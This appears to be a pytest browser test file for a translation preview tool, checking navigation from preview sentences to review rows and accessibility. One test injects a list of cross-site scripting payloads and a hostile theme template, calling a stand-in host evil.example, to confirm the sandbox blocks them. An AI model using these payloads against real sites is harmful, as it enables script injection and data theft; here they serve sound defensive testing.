"""The preview in a real browser: a sentence that is chosen opens its row, and nothing runs."""

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from deskroom import DRAFTS, NEWS, SETTINGS, Deskroom
from judges.access import axe
from judges.browser import Page

from i18n.model import Unit

pytestmark = pytest.mark.browser

WAITED = Unit("We waited nine years for this day.").uid
ROW = f"/review/ru/news?u={WAITED}#u-{WAITED}"
INSIDE = "document.getElementById('built').contentDocument"
READY = "document.getElementById('built')?.dataset.ready"

PAYLOADS = (
    "<script>top.owned = 1; fetch('http://evil.example/')</script>",
    "<img src=http://evil.example/a.png onerror='top.owned = 1'>",
    "<svg onload='top.owned = 1'><script>top.owned = 1</script></svg>",
    "<style>@import 'http://evil.example/a.css'; body { background: url(http://evil.example/b) }</style>",
    "<meta http-equiv=refresh content='0; url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<form action='http://evil.example/'><button autofocus>x</button></form>",
    "<iframe src='http://evil.example/' srcdoc='<script>top.owned = 1</script>'></iframe>",
    "<object data='http://evil.example/'></object><embed src='http://evil.example/'>",
    "[x](javascript:top.owned=1) ![x](data:image/svg+xml,<svg/onload=top.owned=1>)",
    "</span></p></main></body></html><script>top.owned = 1</script>",
    "<a href='http://evil.example/' target=_top ping='http://evil.example/'>x</a>",
    "<link rel=stylesheet href=http://evil.example/a.css>\"'><script>top.owned = 1</script>",
)


def enter(page: Page, room: Deskroom, path: str) -> None:
    """Open an address of the desk, signed in."""
    page.goto(f"{room.url}/?t={room.desk.door.token}")
    page.goto(f"{room.url}{path}")


def where(page: Page) -> str:
    return str(page.evaluate("location.pathname + location.search + location.hash"))


def press(page: Page, selector: str) -> None:
    """Click with the mouse on the first box of an element in the frame."""
    x, y = page.evaluate(
        f"""{{const frame = document.getElementById('built'), inside = frame.contentDocument;
        const one = inside.querySelector({selector!r});
        one.scrollIntoView({{block: 'center', behavior: 'instant'}});
        frame.scrollIntoView({{block: 'center', behavior: 'instant'}});
        const box = one.getClientRects()[0], outer = frame.getBoundingClientRect();
        [outer.x + frame.clientLeft + box.x + 5, outer.y + frame.clientTop + box.y + box.height / 2]}}"""
    )
    for what in ("mousePressed", "mouseReleased"):
        page._ask("Input.dispatchMouseEvent", type=what, x=x, y=y, button="left", clickCount=1)


@pytest.fixture
def room(tmp_path: Path) -> Iterator[Deskroom]:
    with Deskroom(tmp_path) as room:
        yield room


def test_a_click_on_a_sentence_opens_its_row(page: Page, room: Deskroom) -> None:
    enter(page, room, "/preview/ru/news")
    page.wait(READY)

    press(page, f"[data-u='{WAITED}']")

    page.wait("location.pathname.startsWith('/review/')")
    assert where(page) == ROW


def test_a_sentence_of_the_original_opens_the_same_row(page: Page, room: Deskroom) -> None:
    enter(page, room, "/preview/ru/news?beside=1")
    page.wait("document.querySelector('iframe.built').dataset.ready")

    page.evaluate(
        f"""document.querySelector('iframe.built').contentDocument
        .querySelector("[data-u='{WAITED}']").click()"""
    )

    page.wait("location.pathname.startsWith('/review/')")
    assert where(page) == ROW


def test_the_keyboard_opens_a_row_too(page: Page, room: Deskroom) -> None:
    enter(page, room, "/preview/ru/news")
    page.wait(READY)
    page.evaluate(f"{INSIDE}.querySelector(\"a.tilshi-edit[href$='{WAITED}']\").focus()")

    page.press("Enter")

    page.wait("location.pathname.startsWith('/review/')")
    assert where(page) == ROW


def test_without_scripts_the_way_after_a_passage_opens_its_row(page: Page, room: Deskroom) -> None:
    enter(page, room, "/preview/ru/news")
    page.wait(READY)
    page.emulate(scripts=False)
    page.goto(f"{room.url}/preview/ru/news")

    press(page, f"a.tilshi-edit[href$='{WAITED}']")

    page.wait("location.pathname.startsWith('/review/')")
    assert where(page) == ROW


def test_a_preview_of_a_sentence_begins_with_it(page: Page, tmp_path: Path) -> None:
    text = NEWS.replace("> We", "\n\n".join(f"Paragraph {n}." for n in range(60)) + "\n\n> We")
    with Deskroom(tmp_path, articles={"news.md": text}) as room:
        enter(page, room, f"/preview/ru/news?u={WAITED}")
        page.wait(READY)
        box = f"{INSIDE}.getElementById('u-{WAITED}').getBoundingClientRect()"
        page.wait(
            f"{box}.top >= 0 && {box}.bottom <= document.getElementById('built').clientHeight"
        )

        assert page.evaluate(f"{INSIDE}.defaultView.scrollY") > 0


def test_p_on_a_row_shows_the_page_from_its_sentence_and_the_way_back_is_to_the_row(
    page: Page, room: Deskroom
) -> None:
    enter(page, room, ROW)
    page.wait(f"document.activeElement?.id === 'u-{WAITED}'")

    page._ask("Input.dispatchKeyEvent", type="keyDown", key="p", text="p")

    page.wait("location.pathname.startsWith('/preview/')")
    page.wait(READY)
    assert where(page) == f"/preview/ru/news?u={WAITED}"
    assert page.evaluate(f"{INSIDE}.querySelector(':target').dataset.u") == WAITED
    page.click(f"a[href='{ROW}']")
    page.wait("location.pathname.startsWith('/review/')")


def test_links_of_the_page_lead_nowhere_outside(page: Page, room: Deskroom) -> None:
    enter(page, room, "/preview/ru/news")
    page.wait(READY)
    page.requests.clear()

    press(page, "header a[href='#nowhere']")
    page.evaluate(f"{INSIDE}.querySelector('header a[href=\"#nowhere\"]').click()")

    assert page.evaluate(f"{INSIDE}.location.pathname") == "/built/ru/news"
    assert where(page) == "/preview/ru/news"
    assert page.requests == []


@pytest.mark.parametrize("place", ["translation", "article"])
def test_nothing_that_an_article_or_a_catalog_carries_runs_or_asks_outside(
    page: Page, tmp_path: Path, place: str
) -> None:
    sources = list(DRAFTS["kk"])
    drafts = {
        "ru": {
            s: f"{PAYLOADS[n * 2 % 13]} {PAYLOADS[(n * 2 + 1) % 13]}" for n, s in enumerate(sources)
        }
    }
    drafts["ru"][sources[-1]] = " ".join(PAYLOADS)
    text = NEWS + ("\n\n".join(("", *PAYLOADS)) if place == "article" else "")
    with Deskroom(tmp_path, articles={"news.md": text}, drafts=drafts) as room:
        room.write("theme/templates/article.html", HOSTILE_THEME)
        enter(page, room, "/preview/ru/news")
        page.wait(READY)

        assert page.evaluate("window.owned") is None
        assert {urlsplit(one).hostname for one in page.requests if one[:5] != "data:"} == {
            "127.0.0.1"
        }
        assert page.evaluate(f"{INSIDE}.querySelectorAll('[data-u]').length") > 0
        assert page.evaluate(f"{INSIDE}.location.pathname") == "/built/ru/news"
        assert where(page) == "/preview/ru/news"


HOSTILE_THEME = """\
{% extends "article.html" %}
{% block scripts %}
<script>top.owned = 1</script><script src="http://evil.example/a.js"></script>
<link rel="preconnect" href="http://evil.example/"><base href="http://evil.example/">
<meta http-equiv="refresh" content="0; url=http://evil.example/">
{% endblock %}
{% block tags %}<img src="http://evil.example/a.png" onerror="top.owned = 1">
<iframe src="http://evil.example/"></iframe>{% endblock %}
"""


def test_what_marks_the_page_is_seen_and_nothing_is_wider_than_a_phone(
    page: Page, tmp_path: Path
) -> None:
    with Deskroom(tmp_path, settings=SETTINGS) as room:
        for width in (1280, 390):
            page.emulate(width=width)
            enter(page, room, "/preview/kk/news?beside=1")
            page.wait(READY)

            assert page.evaluate("document.documentElement.scrollWidth") <= width
            assert page.evaluate(f"{INSIDE}.documentElement.scrollWidth") <= width
            line = f"{INSIDE}.defaultView.getComputedStyle({INSIDE}.querySelector('[data-u]'))"
            assert "dotted" in page.evaluate(f"{line}.textDecoration")
            assert page.evaluate("document.querySelectorAll('iframe').length") == 2


AS_A_PAGE = """
fetch('/built/ru/news').then(answer => answer.text()).then(text => {
  document.open(); document.write(text); document.close(); })
"""
"""The page of the frame in the place of the screen: in its sandbox no judge of pages runs."""


@pytest.mark.judges
@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_axe_has_nothing_to_say_of_the_screen_and_of_what_is_in_its_frame(
    page: Page, room: Deskroom, width: int, dark: bool
) -> None:
    page.emulate(dark=dark, width=width)
    enter(page, room, "/preview/ru/news?beside=1")
    page.wait(READY)
    screen = axe(page)
    page.evaluate(AS_A_PAGE)
    page.wait("document.querySelector('a.tilshi-edit') && document.styleSheets.length === 2")

    assert (screen, axe(page)) == ([], [])
